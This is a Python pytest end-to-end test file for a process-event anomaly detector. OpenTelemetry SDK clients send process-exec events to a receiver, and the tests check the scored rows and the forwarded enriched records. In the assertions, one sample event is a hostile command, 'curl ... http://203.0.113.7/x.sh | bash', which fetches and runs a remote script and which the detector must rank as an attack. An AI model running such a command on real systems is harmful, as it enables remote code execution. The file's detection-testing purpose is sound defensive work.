"""Clients nobody here wrote send process events to the real receiver on loopback; each test ends with
the scored rows read back from ClickHouse (chdb) and the enriched records received by an OTLP endpoint
the test runs."""

from __future__ import annotations

import json
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest
from conftest import WEB_EVENTS, Stack, event_attributes, web_resource
from opentelemetry._logs import SeverityNumber
from opentelemetry.sdk._logs import LoggerProvider
from opentelemetry.sdk._logs.export import BatchLogRecordProcessor, LogRecordExporter, LogRecordExportResult
from opentelemetry.sdk.resources import Resource

JS_DIR = Path(__file__).parent / "js"


class CheckedExporter(LogRecordExporter):
    """Wraps an SDK exporter to learn each export's outcome (the SDK processor only logs failures)."""

    def __init__(self, inner: LogRecordExporter) -> None:
        self.inner = inner
        self.results: list[LogRecordExportResult] = []
        self.exported = 0

    def export(self, batch):  # type: ignore[no-untyped-def]
        result = self.inner.export(batch)
        self.results.append(result)
        if result == LogRecordExportResult.SUCCESS:
            self.exported += len(batch)
        return result

    def shutdown(self) -> None:
        self.inner.shutdown()

    def force_flush(self, timeout_millis: int = 30000) -> bool:
        return True


def send_with_python_sdk(exporter: LogRecordExporter, events: list[tuple], workload: str = "web") -> CheckedExporter:
    checked = CheckedExporter(exporter)
    provider = LoggerProvider(resource=Resource.create(web_resource(workload)))
    provider.add_log_record_processor(BatchLogRecordProcessor(checked, schedule_delay_millis=50))
    logger = provider.get_logger("procsight.e2e", "1.0")
    for event in events:
        logger.emit(body=event[3], attributes=event_attributes(*event), event_name="process.exec",
                    severity_number=SeverityNumber.INFO, severity_text="INFO")
    provider.force_flush()
    provider.shutdown()
    return checked


def assert_scored_and_forwarded(stack: Stack, events: list[tuple], workload: str) -> list[dict[str, Any]]:
    """Every event is one scored row and one forwarded enriched record; the attack ranks first.
    (The tests of this module share one receiver; each sends as its own workload.)"""
    rows = stack.rows(len(events), workload=workload)
    assert sorted(row["Body"] for row in rows) == sorted(event[3] for event in events)
    assert len({row["RecordId"] for row in rows}) == len(events)
    assert {row["Workload"] for row in rows} == {workload}
    assert {row["TenantId"] for row in rows} == {"default"}
    assert all(row["EventName"] == "process.exec" for row in rows)
    assert all(0.0 <= row["AnomalyScore"] <= 1.0 and row["AnomalySeverity"] in ("none", "warn", "alert")
               for row in rows)
    assert all(len(row["Embedding"]) > 0 for row in rows)
    by_command = {row["Body"]: row for row in rows}
    attack = by_command["sh -c curl -s http://203.0.113.7/x.sh | bash"]
    routine = by_command["gzip -9 /var/log/nginx/access.log.1"]
    assert attack["AnomalySeverity"] in ("warn", "alert") and attack["AnomalyScore"] > routine["AnomalyScore"]
    assert json.loads(attack["LogAttributes"]["anomaly_reasons"])
    # the shell's child sees the web server through the intermediate `sh -c`
    assert "nginx" in json.loads(by_command["bash"]["LogAttributes"]["process.ancestors"])

    forwarded = stack.sink.wait_for_records(len(events), workload=workload)
    assert len(forwarded) == len(events)
    for record in forwarded:
        attributes = {kv.key: kv.value for kv in record.attributes}
        assert {"anomaly_score", "anomaly_severity", "anomaly_workload", "anomaly_model"} <= set(attributes)
    assert sorted(r.body.string_value for r in forwarded) == sorted(event[3] for event in events)
    return rows


def test_python_sdk_grpc_exporter(stack: Stack) -> None:
    from opentelemetry.exporter.otlp.proto.grpc._log_exporter import OTLPLogExporter

    exporter = OTLPLogExporter(endpoint=stack.service.grpc_endpoint(), insecure=True)
    sent = send_with_python_sdk(exporter, WEB_EVENTS, workload="web-python-grpc")
    assert sent.exported == len(WEB_EVENTS)
    assert_scored_and_forwarded(stack, WEB_EVENTS, "web-python-grpc")


def test_python_sdk_http_exporter(stack: Stack) -> None:
    from opentelemetry.exporter.otlp.proto.http import Compression
    from opentelemetry.exporter.otlp.proto.http._log_exporter import OTLPLogExporter

    exporter = OTLPLogExporter(endpoint=f"http://{stack.service.http_endpoint()}/v1/logs",
                               compression=Compression.Gzip)
    sent = send_with_python_sdk(exporter, WEB_EVENTS, workload="web-python-http")
    assert sent.exported == len(WEB_EVENTS)
    assert_scored_and_forwarded(stack, WEB_EVENTS, "web-python-http")


@pytest.mark.skipif(shutil.which("node") is None or not (JS_DIR / "node_modules").is_dir(),
                    reason="needs node and `npm install` in tests/js (scripts/setup.sh does both)")
@pytest.mark.parametrize(("protocol", "path"), [("grpc", ""), ("http", "/v1/logs"), ("proto", "/otlp/v1/events")])
def test_js_sdk_exporters(stack: Stack, protocol: str, path: str) -> None:
    endpoint = stack.service.grpc_endpoint() if protocol == "grpc" else stack.service.http_endpoint()
    workload = f"web-js-{protocol}"
    events = {"resource": web_resource(workload), "records": [
        {"body": e[3], "eventName": "process.exec", "attributes": event_attributes(*e)} for e in WEB_EVENTS]}
    result = subprocess.run(["node", str(JS_DIR / "send_logs.js"), protocol, f"http://{endpoint}{path}", "-"],
                            input=json.dumps(events), capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stdout + result.stderr
    assert json.loads(result.stdout.strip().splitlines()[-1]) == {"exported": len(WEB_EVENTS), "failures": []}
    assert_scored_and_forwarded(stack, WEB_EVENTS, workload)
